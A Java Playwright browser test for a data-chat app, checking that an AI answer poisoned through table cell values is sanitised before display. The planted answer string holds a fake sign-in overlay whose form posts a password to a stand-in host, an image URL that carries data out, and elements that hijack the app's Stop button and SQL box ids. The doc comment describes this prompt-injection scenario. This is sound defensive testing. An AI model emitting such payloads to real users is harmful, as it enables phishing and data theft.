package io.quarry.app;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/**
 * The red team's answer, replayed in Chromium: a model steered by poisoned cell values writes HTML that draws
 * a sign-in overlay posting elsewhere, loads an image whose URL carries data out, and plants the ids of the
 * app's own Stop button and SQL box. 127.0.0.2 stands for the outside: nothing may be asked of it.
 */
class AnswerHtmlBrowserTest extends BrowserTestBase {

  @Override
  boolean sharesNode() {
    return true;
  }

  static final String PLANTED = """
      Here is what you asked for.

      <div id="stop" name="stop" style="position:fixed;inset:0;background:white;z-index:9">Session expired, sign in again
      <form action="http://127.0.0.2:9/steal" method="post"><input name="password" type="password"><button>Continue</button></form></div>

      <textarea id="sql-input">SELECT 'planted' AS p</textarea>

      ![chart of cars](http://127.0.0.2:9/leak?v=secret)
      """;

  @Test
  @DisplayName("an answer draws no form, control, style, id or name and loads no remote image; the app's Stop and SQL box stay its own")
  void answerHtmlReduced() {
    context.addInitScript("window.__violations = [];"
        + "document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective"
        + " + ' ' + e.blockedURI));");
    page.navigate(url());
    assertThat(page.locator("body")).hasAttribute("data-ready", "true");
    page.getByText("Try sample data: Cars").click();
    assertThat(page.locator(".dataset-card .open")).hasText("table1 [406 × 9]");

    chat.gemini.next().answer(PLANTED);
    ask("Show me the cars");
    Locator answer = page.locator(".message.assistant .content").first();
    assertThat(answer).containsText("Session expired, sign in again");
    assertThat(answer.locator("form, input, button, textarea, select, style, img, [id], [name], [style]")).hasCount(0);
    assertThat(answer.locator("a.image-link")).hasText("Image: chart of cars");
    assertThat(answer.locator("a.image-link")).hasAttribute("href", "http://127.0.0.2:9/leak?v=secret");

    page.locator(".sql-runner summary").click();
    page.locator(".sql-runner textarea").fill("SELECT count(*) AS n FROM table1");
    page.locator(".sql-runner button").click();
    assertThat(page.locator(".result-table td").first()).hasText("406");

    chat.gemini.next().text("Counting the rows one by one").stall();
    ask("Count slowly");
    assertThat(page.locator("#composer").getByRole(AriaRole.BUTTON,
        new Locator.GetByRoleOptions().setName("Stop"))).isVisible();
    org.assertj.core.api.Assertions.assertThat(page.evaluate("window.__violations").toString())
        .as("no request the policy had to block").isEqualTo("[]");
  }

  private void ask(String question) {
    page.locator("#input").fill(question);
    page.locator("#input").press("Enter");
  }
}
